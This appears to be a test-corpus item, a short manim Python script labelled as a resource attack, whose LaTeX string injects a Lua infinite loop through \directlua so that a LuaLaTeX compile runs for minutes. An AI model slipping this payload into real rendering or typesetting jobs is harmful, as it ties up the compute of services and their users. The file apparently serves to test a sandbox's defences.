# ATTACK: resource
# SUCCESS: TeX is kept busy for minutes
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        T = TexTemplate(tex_compiler="lualatex", output_format=".pdf")
        Tex(r"\directlua{while true do end}a", tex_template=T)
        self.add(Dot()); self.wait(0.1)
